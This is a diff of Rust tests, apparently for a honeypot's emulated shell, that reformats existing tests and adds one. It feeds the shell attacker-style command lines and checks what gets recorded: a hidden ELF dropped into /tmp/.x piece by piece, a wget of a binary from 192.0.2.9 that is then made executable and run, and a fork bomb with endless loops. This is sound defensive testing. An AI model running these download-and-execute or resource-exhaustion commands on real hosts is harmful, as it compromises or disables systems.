@@ -9,13 +9,24 @@ fn a_dropped_file_is_captured_once_when_its_pieces_are_in() {
     let host = host("router");
     let mut shell = shell_on(&host, "root", true);
     let mut events = Vec::new();
-    for line in ["echo -ne '\\x7f\\x45' > /tmp/.x", "echo -ne '\\x4c\\x46' >> /tmp/.x", "echo -ne '\\x01' >> /tmp/.x", "chmod 777 /tmp/.x", "ls"] {
+    for line in [
+        "echo -ne '\\x7f\\x45' > /tmp/.x",
+        "echo -ne '\\x4c\\x46' >> /tmp/.x",
+        "echo -ne '\\x01' >> /tmp/.x",
+        "chmod 777 /tmp/.x",
+        "ls",
+    ] {
         events.extend(shell.run_line(line).events);
     }
-    let captured: Vec<Vec<u8>> = events.iter().filter_map(|event| match event {
-        ShellEvent::FileCaptured { path, content, origin: Origin::Drop } if path == "/tmp/.x" => Some(content.to_vec()),
-        _ => None,
-    }).collect();
+    let captured: Vec<Vec<u8>> = events
+        .iter()
+        .filter_map(|event| match event {
+            ShellEvent::FileCaptured { path, content, origin: Origin::Drop } if path == "/tmp/.x" => {
+                Some(content.to_vec())
+            }
+            _ => None,
+        })
+        .collect();
     assert_eq!(captured.last().unwrap(), b"\x7fELF\x01");
     assert!(captured.len() <= 2, "{captured:?}");
 }
@@ -24,11 +35,22 @@ fn a_dropped_file_is_captured_once_when_its_pieces_are_in() {
 fn a_download_is_reported_and_played_back() {
     let host = host("debian12");
     let mut shell = shell_on(&host, "root", false);
-    let outcome = shell.exec("cd /tmp; wget http://192.0.2.9/bins/x86_64; chmod +x x86_64; ./x86_64", Some(b""));
+    let outcome =
+        shell.exec("cd /tmp; wget http://192.0.2.9/bins/x86_64; chmod +x x86_64; ./x86_64", Some(b""));
     assert_eq!(outcome.status, 0, "{outcome:?}");
     assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::DownloadAttempt { url, .. } if url == "http://192.0.2.9/bins/x86_64")));
-    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::FileCaptured { origin: Origin::Download, .. })));
-    assert!(outcome.events.iter().any(|event| matches!(event, ShellEvent::FileExecuted { path, .. } if path == "/tmp/x86_64")));
+    assert!(
+        outcome
+            .events
+            .iter()
+            .any(|event| matches!(event, ShellEvent::FileCaptured { origin: Origin::Download, .. }))
+    );
+    assert!(
+        outcome
+            .events
+            .iter()
+            .any(|event| matches!(event, ShellEvent::FileExecuted { path, .. } if path == "/tmp/x86_64"))
+    );
 }
 
 #[test]
@@ -59,6 +81,13 @@ fn sleep_delays_what_follows() {
     assert_eq!(times, [0, 2_000]);
 }
 
+#[test]
+fn a_background_job_prints_nothing_later() {
+    let outcome = shell_on(&host("debian12"), "root", false)
+        .exec("(while true; do echo x; sleep 60; done) & echo b", Some(b""));
+    assert_eq!(outcome.bytes(netsvc_shell::Stream::Out), b"x\nb\n");
+}
+
 fn typed(input: &[u8]) -> String {
     let mut terminal = Terminal::new(shell_on(&host("debian12"), "root", true));
     terminal.start(NOW);
@@ -68,9 +97,15 @@ fn typed(input: &[u8]) -> String {
 #[test]
 fn a_terminal_edits_echoes_and_prompts() {
     for (input, expected) in [
-        (&b"echo hi\r"[..], "echo hi\r\nhi\r\nroot@web01:~# "), (b"xx\x15echo a\r", "a\r\nroot@web01:~# "), (b"cd /tmp\r", "root@web01:/tmp# "),
-        (b"echo ab\x7f\r", "\r\na\r\n"), (b"echo 1\r\x1b[A\r", "1\r\nroot@web01:~# "), (b"if true\rthen echo y\rfi\r", "> "), (b"unam\t\r", "Linux\r\n"),
-        (b"cat\rabc\r\x04", "abc\r\nabc\r\n"), (b"nosuch\r", "-bash: nosuch: command not found\r\n"),
+        (&b"echo hi\r"[..], "echo hi\r\nhi\r\nroot@web01:~# "),
+        (b"xx\x15echo a\r", "a\r\nroot@web01:~# "),
+        (b"cd /tmp\r", "root@web01:/tmp# "),
+        (b"echo ab\x7f\r", "\r\na\r\n"),
+        (b"echo 1\r\x1b[A\r", "1\r\nroot@web01:~# "),
+        (b"if true\rthen echo y\rfi\r", "> "),
+        (b"unam\t\r", "Linux\r\n"),
+        (b"cat\rabc\r\x04", "abc\r\nabc\r\n"),
+        (b"nosuch\r", "-bash: nosuch: command not found\r\n"),
     ] {
         let found = typed(input);
         assert!(found.contains(expected), "{input:?}: {found:?}");
@@ -79,7 +114,15 @@ fn a_terminal_edits_echoes_and_prompts() {
 
 #[test]
 fn a_fork_bomb_and_endless_loops_end() {
-    for line in [":(){ :|:& };:", "while true; do :; done", "f() { f; }; f", "yes | cat | wc -c", "for ((;;)); do echo x; done", "a=x; while :; do a=$a$a; done", "eval \"$(yes 'eval' | head -1000)\""] {
+    for line in [
+        ":(){ :|:& };:",
+        "while true; do :; done",
+        "f() { f; }; f",
+        "yes | cat | wc -c",
+        "for ((;;)); do echo x; done",
+        "a=x; while :; do a=$a$a; done",
+        "eval \"$(yes 'eval' | head -1000)\"",
+    ] {
         let started = std::time::Instant::now();
         shell_on(&host("debian12"), "root", false).exec(line, Some(b""));
         assert!(started.elapsed().as_secs() < 10, "{line}: {:?}", started.elapsed());
